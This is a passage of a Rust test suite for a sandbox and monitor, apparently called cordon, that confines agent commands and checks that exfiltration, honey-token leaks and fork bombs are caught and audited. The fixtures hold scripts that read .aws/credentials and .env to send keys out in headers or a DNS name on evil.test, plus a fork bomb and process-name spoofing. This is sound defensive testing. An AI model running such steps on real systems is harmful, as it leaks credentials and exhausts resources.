    let hook = Webhook::start();
    let policy = format!(
        "{}[detect.exfil]\nwindow = \"30s\"\nsmall_requests = 20\nresponse = \"block\"\n",
        hook.policy()
    );
    // 40 small POSTs, each carrying a slice of a "secret", 50 ms apart.
    let script = r#"
import time, urllib.request, urllib.error
secret = b"0123456789abcdef" * 40
for i in range(40):
    req = urllib.request.Request("http://api.fake.test/collect", data=secret[i*16:(i+1)*16], method="POST")
    try:
        code = urllib.request.urlopen(req, timeout=10).status
    except urllib.error.HTTPError as e:
        code = e.code
    print(code, flush=True)
    time.sleep(0.05)
print("survived", flush=True)
"#;
    let mark = net.mark();
    let r = net
        .cordon()
        .policy(&policy)
        .allow(&["api.fake.test:80"])
        .run(&[PY, "-c", script])
        .ok();
    let got = codes(&r.stdout);
    assert_eq!(got.len(), 40, "{}", r.stdout);
    // The 20th request fires the rule when it ends; every later one is refused.
    assert!(got[..20].iter().all(|c| c == "200"), "{got:?}");
    assert!(got[20..].iter().all(|c| c == "403"), "{got:?}");
    assert!(r.stdout.contains("survived"));
    assert!(r.result["terminated"].is_null(), "{}", r.result);
    let fired = r.result["alerts"].as_array().unwrap();
    assert_eq!(fired.len(), 1, "{}", r.result);
    assert_eq!(fired[0]["rule"], "exfil");
    assert_eq!(fired[0]["signal"], "small_requests");
    assert_eq!(fired[0]["response"], "block");
    assert_eq!(fired[0]["evidence"]["host"], "api.fake.test");
    // Only the first 20 reached the origin.
    let posts = net
        .seen_since(mark, "http")
        .into_iter()
        .filter(|e| e["path"] == "/collect")
        .count();
    assert_eq!(posts, 20);
    let events = net.audit_events(&r.session());
    let alerts = records(&events, "alert", None);
    assert_eq!(alerts.len(), 1, "{events:#?}");
    assert_eq!(alerts[0]["rule"], "detect.exfil");
    let refused = records(&events, "budget_exhausted", None);
    assert_eq!(refused.len(), 20, "{events:#?}");
    assert!(
        refused.iter().all(|e| e["rule"] == "detect"),
        "{refused:#?}"
    );
    let posted = hook.received(Duration::from_millis(300));
    assert_eq!(posted.len(), 1);
    assert_eq!(posted[0]["rule"], "exfil");
    assert_eq!(posted[0]["response"], "block");
}

#[test]
fn a_honey_token_in_a_header_ends_the_session_before_the_request_leaves() {
    let Some(net) = enter("a_honey_token_in_a_header_ends_the_session_before_the_request_leaves")
    else {
        return;
    };
    let hook = Webhook::start();
    let policy = format!(
        "{}[detect.canary]\nenv = [\"AWS_SECRET_ACCESS_KEY\"]\n",
        hook.policy()
    );
    let mark = net.mark();
    let script = "test ${#AWS_SECRET_ACCESS_KEY} -eq 40 || exit 3; \
                  curl -s -o /dev/null -H \"X-Api-Key: $AWS_SECRET_ACCESS_KEY\" \
                  http://api.fake.test/innocent; sleep 5; echo survived";
    let r = net
        .cordon()
        .policy(&policy)
        .allow(&["api.fake.test:80"])
        .run(&["sh", "-c", script]);
    assert_terminated_by(
        &net,
        &r,
        &hook,
        "canary",
        "canary credential AWS_SECRET_ACCESS_KEY sent out (request head)",
    );
    assert_eq!(r.result["alerts"][0]["severity"], "critical");
    assert!(!r.stdout.contains("survived"));
    assert!(
        net.seen_since(mark, "http").is_empty(),
        "the token reached the origin: {:?}",
        net.seen_since(mark, "http")
    );
    let events = net.audit_events(&r.session());
    let refused = records(&events, "blocked", Some("api.fake.test"));
    assert!(
        refused.is_empty(),
        "recorded with the host it never reached: {refused:#?}"
    );
    assert_eq!(
        records(&events, "blocked", None)[0]["rule"],
        "detect.canary"
    );
}

/// The canary files a test policy plants: one of each shape.
const CANARY_FILES: &str = "files = [\".env\", \".aws/credentials\", \".netrc\", \".ssh/id_ed25519\", \".config/gcloud/application_default_credentials.json\"]\n";

/// Paths under the host workspace that no canary file may leave behind.
fn canary_leftovers(ws: &Path) -> Vec<PathBuf> {
    [".env", ".aws", ".netrc", ".ssh", ".config"]
        .iter()
        .map(|p| ws.join(p))
        .filter(|p| p.symlink_metadata().is_ok())
        .collect()
}

/// The token the sandboxed script printed as `token=…` (so the test knows it).
fn printed_token(r: &Ran) -> String {
    r.stdout
        .lines()
        .find_map(|l| l.strip_prefix("token="))
        .unwrap_or_else(|| panic!("no token printed: {}", r.stdout))
        .to_string()
}

/// A token read from a canary file must never be written anywhere cordon writes: the result,
/// stderr, the webhook, the audit (every record of the session, as exported).
fn assert_token_nowhere(net: &FakeNet, r: &Ran, posted: &[Value], token: &str) {
    assert!(token.len() >= 20, "{token:?}");
    let lower = token.to_lowercase();
    let export = net.audit(&["export", "--session", &r.session()]);
    assert!(export.status.success(), "{}", export.stderr);
    for (what, text) in [
        ("result", r.result.to_string()),
        ("stderr", r.stderr.clone()),
        ("webhook", format!("{posted:?}")),
        ("audit", export.stdout.clone()),
    ] {
        assert!(
            !text.contains(token) && !text.to_lowercase().contains(&lower),
            "the canary token is in the {what}:\n{text}"
        );
    }
}

/// Workspace canary files: a script reads the fake AWS key id from `.aws/credentials` and sends
/// it in a SigV4-style header, or puts the `.env` API key in a DNS name. Either ends the session
/// with the canary rule before anything leaves (the origin and the upstream DNS server never see
/// it), the alert names the file and not the token, and the host workspace directory has no
/// canary file afterwards.
#[test]
fn a_workspace_canary_token_in_a_header_or_a_dns_name_ends_the_session_and_stays_off_the_host() {
    let Some(net) = enter(
        "a_workspace_canary_token_in_a_header_or_a_dns_name_ends_the_session_and_stays_off_the_host",
    ) else {
        return;
    };
    let ws = net.workspace();
    assert_eq!(canary_leftovers(&ws), Vec::<PathBuf>::new());
    let hook = Webhook::start();
    let policy = format!("{}[detect.canary]\n{CANARY_FILES}", hook.policy());

    // The header: the access key id, as an AWS client would send it.
    let script = "key=$(sed -n 's/^aws_access_key_id = //p' /workspace/.aws/credentials); \
                  test ${#key} -eq 20 || exit 3; echo \"token=$key\"; \
                  curl -s -o /dev/null -H \"Authorization: AWS4-HMAC-SHA256 Credential=$key/20260101/us-east-1/s3/aws4_request\" \
                  http://api.fake.test/innocent; sleep 5; echo survived";
    let mark = net.mark();
    let r = net
        .cordon()
        .policy(&policy)
        .allow(&["api.fake.test:80"])
        .run(&["sh", "-c", script]);
    let posted = assert_terminated_by(
        &net,
        &r,
        &hook,
        "canary",
        "canary credential from workspace file .aws/credentials sent out (request head)",
    );
    assert_eq!(posted["severity"], "critical");
    assert_eq!(posted["evidence"]["file"], ".aws/credentials");
    let fired = &r.result["alerts"][0];
    assert_eq!(fired["severity"], "critical");
    assert_eq!(fired["evidence"]["file"], ".aws/credentials");
    assert!(!r.stdout.contains("survived"));
    assert!(
        net.seen_since(mark, "http").is_empty(),
        "the token reached the origin: {:?}",
        net.seen_since(mark, "http")
    );
    let token = printed_token(&r);
    assert!(token.starts_with("AKIA"), "{token}");
    assert_token_nowhere(&net, &r, &[posted], &token);
    let files: Vec<&str> = r.result["canaries"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(files.len(), 5, "{}", r.result);
    let events = net.audit_events(&r.session());
    let start = &records(&events, "session_start", None)[0];
    assert_eq!(
        start["detail"]["canaries"]["files"]
            .as_array()
            .unwrap()
            .len(),
        5
    );
    assert_eq!(
        canary_leftovers(&ws),
        Vec::<PathBuf>::new(),
        "a canary file reached the host workspace"
    );

    // The DNS name: the `.env` API key (mixed case; the name arrives lower-cased).
    let script = r#"
import socket, time
key = [l.split("=", 1)[1].strip() for l in open("/workspace/.env") if l.startswith("API_KEY=")][0]
assert key != key.lower() and len(key) == 40
print("token=" + key, flush=True)
try:
    socket.getaddrinfo(f"{key}.evil.test", 80)
except OSError:
    pass
time.sleep(5)
print("survived", flush=True)
"#;
    let mark = net.mark();
    let r = net
        .cordon()
        .policy(&policy)
        .allow(&["api.fake.test:80"])
        .run(&[PY, "-c", script]);
    let posted = assert_terminated_by(
        &net,
        &r,
        &hook,
        "canary",
        "canary credential from workspace file .env sent out (dns name)",
    );
    assert_eq!(r.result["alerts"][0]["evidence"]["file"], ".env");
    assert!(!r.stdout.contains("survived"));
    let token = printed_token(&r);
    assert_token_nowhere(&net, &r, &[posted], &token);
    let asked: Vec<Value> = net.seen_since(mark, "dns");
    assert!(
        !format!("{asked:?}")
            .to_lowercase()
            .contains(&token.to_lowercase()),
        "the upstream DNS server heard the token: {asked:?}"
    );
    assert_eq!(canary_leftovers(&ws), Vec::<PathBuf>::new());
}

/// A host workspace that already has a file where a canary would go keeps it: the canary is
/// skipped (the run says so) and the host's file is neither replaced nor lost.
#[test]
fn a_canary_file_never_replaces_a_file_of_the_host_workspace() {
    let Some(net) = enter("a_canary_file_never_replaces_a_file_of_the_host_workspace") else {
        return;
    };
    let ws = net.workspace();
    std::fs::write(ws.join(".env"), "REAL_SETTING=1\n").unwrap();
    let r = net
        .cordon()
        .policy("[detect.canary]\nfiles = [\".env\", \".aws/credentials\"]\n")
        .run(&[
            "sh",
            "-c",
            "cat /workspace/.env; test -s /workspace/.aws/credentials && echo planted",
        ])
        .ok();
    assert!(
        r.stdout.starts_with("REAL_SETTING=1\nplanted"),
        "{}",
        r.stdout
    );
    assert_eq!(
        r.result["canaries"]["skipped"],
        serde_json::json!([{"path": ".env", "reason": "the workspace already has a file at .env; it is kept as it is"}])
    );
    assert!(
        r.stderr.contains("cordon: warning: canary file .env not planted: the workspace already has a file at .env; it is kept as it is"),
        "{}",
        r.stderr
    );
    assert_eq!(
        std::fs::read_to_string(ws.join(".env")).unwrap(),
        "REAL_SETTING=1\n"
    );
    assert!(!ws.join(".aws").exists());
    std::fs::remove_file(ws.join(".env")).unwrap();
}

#[test]
fn a_fork_bomb_fires_the_sandbox_rule_and_is_stopped() {
    let Some(net) = enter("a_fork_bomb_fires_the_sandbox_rule_and_is_stopped") else {
        return;
    };
    if std::env::var_os(USERNS_ENV).is_some() {
        eprintln!(
            "SKIPPED a_fork_bomb_fires_the_sandbox_rule_and_is_stopped: needs cgroups (root)"
        );
        return;
    }
    let hook = Webhook::start();
    let policy = format!(
        "{}[limits]\npids = 24\n[detect.sandbox]\nresponse = \"terminate\"\n",
        hook.policy()
    );
    // Bounded: the pids limit caps it at 24 tasks, and the test's run limit at 60 s.
    let script = "import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n    except OSError:\n        time.sleep(0.001)\n";
    let started = Instant::now();
    let r = net.cordon().policy(&policy).run(&[PY, "-c", script]);
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    assert_terminated_by(
        &net,
        &r,
        &hook,
        "sandbox",
        "pids limit hit (a fork failed: fork bomb or runaway process creation)",
    );
    assert!(
        r.result["limits_hit"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l == "pids"),
        "{}",
        r.result
    );
}

#[test]
fn a_daemon_that_outlives_the_command_is_reported() {
    let Some(net) = enter("a_daemon_that_outlives_the_command_is_reported") else {
        return;
    };
    let r = net
        .cordon()
        .run(&["sh", "-c", "setsid sleep 60 >/dev/null 2>&1 & echo started"])
        .ok();
    let fired = r.result["alerts"].as_array().unwrap();
    assert_eq!(fired.len(), 1, "{}", r.result);
    assert_eq!(fired[0]["rule"], "sandbox");
    assert_eq!(fired[0]["signal"], "lingering");
    assert_eq!(fired[0]["response"], "log");
    let events = net.audit_events(&r.session());
    assert_eq!(records(&events, "alert", None).len(), 1, "{events:#?}");
    // And the control: a command that waits for its children leaves nothing behind.
    let r = net.cordon().run(&["sh", "-c", "sleep 0.1 & wait"]).ok();
    assert_eq!(r.result["alerts"], serde_json::json!([]), "{}", r.result);
}

/// The benign set: workloads an agent runs every day, each run several times at the default
/// thresholds. None may fire a rule. The false-positive rate is printed for the report.
#[test]
fn benign_workloads_are_not_flagged() {
    let Some(net) = enter("benign_workloads_are_not_flagged") else {
        return;
    };
    let hook = Webhook::start();
    let has_pip = Command::new(PY)
        .args(["-m", "pip", "--version"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    let requests = r#"
import json, urllib.request
ok = 0
for i in range(200):
    if i % 10 == 0:
        req = urllib.request.Request("http://api.fake.test/api/items", data=json.dumps({"n": i}).encode(), method="POST")
    else:
        req = urllib.request.Request(f"http://api.fake.test/api/items/{i}")
    with urllib.request.urlopen(req, timeout=10) as r:
        r.read()
        ok += r.status == 200
print("ok", ok)
"#;
    let pip = format!(
        "{PY} -m pip download --no-deps --no-cache-dir --disable-pip-version-check \
         --index-url https://pypi.fake.test/simple --cert /workspace/ca.pem -d /tmp/dl \
         fakepkg fakealpha fakebeta fakegamma fakedelta fakeepsilon && ls /tmp/dl | wc -l"
    );
    let mut workloads: Vec<(&str, Vec<String>, &str)> = vec![(
        "200 requests",
        vec![PY.into(), "-c".into(), requests.into()],
        "ok 200",
    )];
    if has_pip {
        workloads.push(("pip download", vec!["sh".into(), "-c".into(), pip], "6"));
    } else {
        eprintln!("SKIPPED pip part of benign_workloads_are_not_flagged: {PY} has no pip");
    }
    // With honey tokens present, as a careful operator would run them: a variable and one file
    // of each shape (HOME is /workspace, so pip's own HTTP library sees the .netrc).
    let benign_policy = format!(
        "{}[detect.canary]\nenv = [\"AWS_SECRET_ACCESS_KEY\"]\n{CANARY_FILES}",
        hook.policy()
    );
    let (mut runs, mut flagged) = (0, 0);
    for (name, argv, expect) in &workloads {
        for _ in 0..3 {
            let r = net
                .cordon()
                .policy(&benign_policy)
                .allow(&["api.fake.test:80", "pypi.fake.test"])
                .run(argv)
                .ok();
            // Honey tokens in the environment and in every canary file shape were there.
            assert_eq!(
                r.result["canaries"]["files"].as_array().map(Vec::len),
                Some(5),
                "{}",
                r.result
            );
            assert_eq!(canary_leftovers(&net.workspace()), Vec::<PathBuf>::new());
            assert!(
                r.stdout.contains(expect),
                "{name}: {}\n{}",
                r.stdout,
                r.stderr
            );
            runs += 1;
            let fired = r.result["alerts"].as_array().unwrap();
            if !fired.is_empty() {
                flagged += 1;
                eprintln!("{name} flagged: {fired:?}");
            }
            let events = net.audit_events(&r.session());
            assert!(
                records(&events, "alert", None).is_empty(),
                "{name}: {events:#?}"
            );
        }
    }
    println!("BENIGN false positives: {flagged} of {runs} runs");
    assert_eq!(flagged, 0);
    assert!(hook.rx.try_recv().is_err(), "a benign run sent an alert");
}

// ------------------------------------------------------------------------------------------
// Process attribution.

/// Runs in the sandbox: curl through the proxy, python3's urllib, a python3 that calls itself
/// `sshd` (argv[0]) and `kworker` (its thread name), curl with every proxy ignored (its DNS query
/// and transparent connection), and a blocked request.
const ATTRIBUTION_SCRIPT: &str = r#"
set -e
curl -sS -o /dev/null http://api.fake.test/by-curl
/usr/bin/python3 -c 'import urllib.request; urllib.request.urlopen("http://api.fake.test/by-python").read()'
/usr/bin/python3 -c 'import os; os.execv("/usr/bin/python3", ["sshd", "-c", "import ctypes, urllib.request; ctypes.CDLL(None).prctl(15, b\"kworker\", 0, 0, 0); urllib.request.urlopen(\"http://api.fake.test/by-liar\").read()"])'
curl -sS -o /dev/null --noproxy '*' http://api.fake.test/by-curl-direct
curl -sS -o /dev/null http://other.fake.test/by-curl-blocked || true
/usr/bin/python3 -c '
import socket, struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x08tcp-name\x04fake\x04test\x00" + struct.pack(">HH", 1, 1)
s = socket.create_connection((ns, 53))
s.sendall(struct.pack(">H", len(q)) + q)
s.recv(512)
'
"#;

#[test]
fn every_network_event_names_the_sandbox_process_by_its_real_executable() {
    let Some(net) = enter("every_network_event_names_the_sandbox_process_by_its_real_executable")
    else {
        return;
    };
    let r = net
        .cordon()
        .policy(NEVER_TERMINATE)
        .allow(&["api.fake.test:80"])
        .run(&["sh", "-c", ATTRIBUTION_SCRIPT])
        .ok();
    let events = net.audit_events(&r.session());
    let curl_exe = std::fs::canonicalize("/usr/bin/curl").unwrap();
    let python_exe = std::fs::canonicalize(PY).unwrap();
    let by_path = |path: &str| -> &Value {
        events
            .iter()
            .find(|e| e["path"] == path)
            .unwrap_or_else(|| panic!("no event for {path}: {events:#?}"))
    };
    let process = |e: &Value| -> (u64, String, Vec<String>) {
        let p = &e["process"];
        assert!(p.is_object(), "no process in {e}");
        (
            p["pid"].as_u64().unwrap(),
            p["exe"].as_str().unwrap().to_owned(),
            p["cmdline"]
                .as_array()
                .unwrap()
                .iter()
                .map(|a| a.as_str().unwrap().to_owned())
                .collect(),
        )
    };

    let (curl_pid, exe, cmdline) = process(by_path("/by-curl"));
    assert_eq!(Path::new(&exe), curl_exe);
    assert_eq!(cmdline[0], "curl");
    assert!(cmdline.contains(&"http://api.fake.test/by-curl".to_owned()));
    // A pid of the sandbox's own namespace: its init is 1, the shell 2 or so.
    assert!(curl_pid > 1 && curl_pid < 100, "{curl_pid}");

    let (python_pid, exe, cmdline) = process(by_path("/by-python"));
    assert_eq!(Path::new(&exe), python_exe);
    assert_eq!(cmdline[..2], [PY.to_owned(), "-c".to_owned()]);
    assert_ne!(python_pid, curl_pid);

    // The liar: argv[0] and the thread name say otherwise, the executable does not.
    let (liar_pid, exe, cmdline) = process(by_path("/by-liar"));
    assert_eq!(Path::new(&exe), python_exe);
    assert_eq!(cmdline[0], "sshd");
    assert!(![curl_pid, python_pid].contains(&liar_pid));

    // Transparent capture: the DNS query and the connection are curl's too.
    let (direct_pid, exe, _) = process(by_path("/by-curl-direct"));
    assert_eq!(Path::new(&exe), curl_exe);
    let dns: Vec<&Value> = records(&events, "dns_query", Some("api.fake.test"));
    assert!(!dns.is_empty(), "{events:#?}");
    for q in &dns {
        let (pid, exe, _) = process(q);
        assert_eq!(
            (pid, Path::new(&exe)),
            (direct_pid, curl_exe.as_path()),
            "{q}"
        );
    }

    // DNS over TCP (redirected to the gateway) is python's.
    let tcp_dns = records(&events, "dns_query", Some("tcp-name.fake.test"));
    assert_eq!(tcp_dns.len(), 1, "{events:#?}");
    let (_, exe, cmdline) = process(tcp_dns[0]);
    assert_eq!(
        (Path::new(&exe), cmdline[0].as_str()),
        (python_exe.as_path(), PY)
    );

    // A blocked attempt names its process as well.
    let blocked = by_path("/by-curl-blocked");
    assert_eq!(blocked["verdict"], "block");
    assert_eq!(Path::new(&process(blocked).1), curl_exe);

    // Session records have no process; every network record has one.
    for e in &events {
        let network = !matches!(e["kind"].as_str(), Some("session_start" | "session_end"));
        assert_eq!(e["process"].is_object(), network, "{e}");
    }

    // People see it too, and the chain covers it.
    let table = net.audit(&["events", &r.session()]);
    assert!(
        table.stdout.lines().any(|l| l.contains("/by-liar")
            && l.contains(&format!("{liar_pid} python3"))
            && !l.contains("sshd")),
        "{}",
        table.stdout
    );
    let cef = net.audit(&["export", "--format", "cef", "--session", &r.session()]);
    assert!(
        cef.stdout
            .contains(&format!("spid={curl_pid} sproc={}", curl_exe.display())),
        "{}",
        cef.stdout
    );
    assert!(net.audit(&["verify"]).status.success());
}

#[test]
fn blocked_attempts_reach_a_tcp_syslog_receiver_live_and_allowed_ones_are_filtered() {
    let Some(net) =
        enter("blocked_attempts_reach_a_tcp_syslog_receiver_live_and_allowed_ones_are_filtered")
    else {
        return;
    };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("tcp://{}", listener.local_addr().unwrap());
    let policy = format!(
        "[response]\nterminate_after_blocked = 0\n[audit]\nsyslog = \"{url}\"\nsyslog_min_severity = \"warning\"\n"
    );
    let r = net
        .cordon()
        .policy(&policy)
        .allow(&["api.fake.test:80"])
        .run(&[
            "sh",
            "-c",
            "curl -sS -o /dev/null http://api.fake.test/ok; curl -sS -o /dev/null http://other.fake.test/no; true",
        ])
        .ok();
    let (mut conn, _) = listener.accept().unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut all = Vec::new();
    let _ = conn.read_to_end(&mut all);
    // Octet-counted frames: LEN SP MSG.
    let mut messages = Vec::new();
    let mut rest = &all[..];
    while !rest.is_empty() {
        let sp = rest.iter().position(|&b| b == b' ').unwrap();
        let n: usize = std::str::from_utf8(&rest[..sp]).unwrap().parse().unwrap();
        messages.push(String::from_utf8(rest[sp + 1..sp + 1 + n].to_vec()).unwrap());
        rest = &rest[sp + 1 + n..];
    }
    assert_eq!(messages.len(), 1, "{messages:#?}");
    let m = &messages[0];
    assert!(m.starts_with("<108>1 "), "{m}");
    assert!(m.contains(" blocked [cordon@32473 "), "{m}");
    assert!(m.contains(&format!("session=\"{}\"", r.session())), "{m}");
    assert!(m.contains("host=\"other.fake.test\""), "{m}");
    assert!(m.contains("exe=\""), "the process is forwarded too: {m}");
}

// ------------------------------------------------------------------------------------------
// Concurrent sessions, one store.

#[test]
fn parallel_sessions_writing_one_store_lose_nothing_and_keep_one_valid_chain() {
    let Some(net) =
        enter("parallel_sessions_writing_one_store_lose_nothing_and_keep_one_valid_chain")
    else {
        return;
    };
    const SESSIONS: usize = 6;
    const REQUESTS: usize = 40;
    let script = format!(
        "import urllib.request\nfor i in range({REQUESTS}):\n    urllib.request.urlopen('http://api.fake.test/p%d' % i).read()\n"
    );
    let runs: Vec<Ran> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..SESSIONS)
            .map(|i| {
                let (net, script) = (&net, &script);
                s.spawn(move || {
                    net.cordon()
                        .policy(NEVER_TERMINATE)
                        .allow(&["api.fake.test:80"])
                        .args(&["--user", &format!("user{i}")])
                        .run(&[PY, "-c", script])
                        .ok()
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let all = json_lines(&net.audit(&["export"]).stdout);
    // One chain: global ids 1..=N with no gap, whatever the interleaving.
    let ids: Vec<u64> = all.iter().map(|e| e["id"].as_u64().unwrap()).collect();
    assert_eq!(ids, (1..=all.len() as u64).collect::<Vec<_>>());
    let mut interleaved = false;
    for (i, r) in runs.iter().enumerate() {
        let session = r.session();
        let events: Vec<&Value> = all
            .iter()
            .filter(|e| e["session_id"] == session.as_str())
            .collect();
        // Everything each session did is there, in its own order.
        let requests = records(&all, "http_request", Some("api.fake.test"))
            .into_iter()
            .filter(|e| e["session_id"] == session.as_str())
            .count();
        assert_eq!(requests, REQUESTS, "session {i}");
        let seqs: Vec<u64> = events
            .iter()
            .map(|e| e["session_seq"].as_u64().unwrap())
            .collect();
        assert_eq!(
            seqs,
            (1..=events.len() as u64).collect::<Vec<_>>(),
            "session {i}"
        );
        assert_eq!(events[0]["kind"], "session_start");
        assert_eq!(events[events.len() - 1]["kind"], "session_end");
        assert!(events
            .iter()
            .all(|e| e["user_id"] == format!("user{i}").as_str()));
        let first = events[0]["id"].as_u64().unwrap();
        let last = events[events.len() - 1]["id"].as_u64().unwrap();
        interleaved |= last - first + 1 != events.len() as u64;
    }
    assert!(
        interleaved,
        "the sessions did not overlap; the test proved nothing"
    );
    let f = net.audit(&["verify"]);
    assert!(f.status.success(), "{}{}", f.stdout, f.stderr);
    assert!(
        f.stdout
            .starts_with(&format!("ok: {} records verified", all.len())),
        "{}",
        f.stdout
    );
}
